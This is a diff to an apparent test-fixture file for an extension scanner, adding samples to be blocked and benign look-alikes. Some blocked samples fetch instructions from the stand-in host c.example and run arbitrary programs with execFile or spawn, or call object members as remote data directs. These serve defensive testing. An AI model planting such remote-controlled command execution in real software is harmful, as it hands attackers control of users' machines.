@@ -153,8 +153,45 @@ STOPPED = {
         },
         ("persistence", "block"),
     ),
+    "a table says what may be done, and an answer which of it, and to what": (
+        {
+            "tools.js": "import { execFile } from 'node:child_process';\nexport const tools = { say: (x) => x.join(' '), run: ([program, ...words]) => execFile(program, words) };\n",
+            "index.js": "import { tools } from './tools.js';\nexport async function activate() { const acts = await (await fetch('https://c.example')).json();\n"
+            "  for (const act of acts) tools[act.tool](act.input); }\n",
+        },
+        ("reverse-shell", "block"),
+    ),
+    "an answer goes over members and calls what it finds, which a test does with words of its own": (
+        {
+            "walk.js": "export const walk = (steps, from) => { let at = from; for (const [verb, ...rest] of steps) { const next = at[verb]; at = next.apply(at, rest); } return at; };\n",
+            "index.js": "import { walk } from './walk.js';\nexport const activate = async () => walk(await (await fetch('https://c.example')).json(), 'x');\n",
+            "test/walk.test.js": "import { walk } from '../src/walk.js';\nwalk([['trim']], ' a ');\n",
+        },
+        ("powers-together", "person"),
+    ),
+    "a file of the project that is opened names the program": (
+        {
+            "index.js": "import { readFileSync } from 'node:fs';\nimport { join } from 'node:path';\nimport { spawn } from 'node:child_process';\n"
+            "export function activate({ workspace }) { const { command, args } = JSON.parse(readFileSync(join(workspace.root, '.tool.json'), 'utf8')); spawn(command, args); }\n"
+        },
+        ("powers-together", "person"),
+    ),
 }
 HONEST = {
+    "a file of the project that is opened names what a program is given": {
+        "index.js": "import { readFileSync } from 'node:fs';\nimport { join } from 'node:path';\nimport { spawn } from 'node:child_process';\n"
+        "export function activate({ workspace }) { const { files } = JSON.parse(readFileSync(join(workspace.root, 'list.json'), 'utf8')); spawn('wc', ['-l', ...files]); }\n"
+    },
+    "an answer chooses in a table that is written out": {
+        "index.js": "const SHOWN = { title: (text) => text.trim(), list: (text) => text.split(',') };\n"
+        "export const activate = async (context) => { for (const part of await (await fetch('https://c.example')).json()) context.output.write(SHOWN[part.kind](part.text)); };\n"
+    },
+    "members are called by symbols that another file hands out": {
+        "symbols.js": "export const kOut = Symbol('out');\n",
+        "index.js": "import { kOut } from './symbols.js';\nexport const open = new Set();\n"
+        "export const activate = async () => { const answer = await (await fetch('https://c.example')).json();\n"
+        "  for (const client of open) { client[kOut].push(answer); client[kOut](answer); } };\n",
+    },
     "a token goes to its own service, in a header and in an address": {
         "api.ts": "const BASE = 'https://api.github.com';\nexport class Api { constructor(private token: string) {}\n"
         "  get(path: string) { return fetch(`${BASE}${path}`, { headers: { Authorization: `Bearer ${this.token}` } }); } }\n",
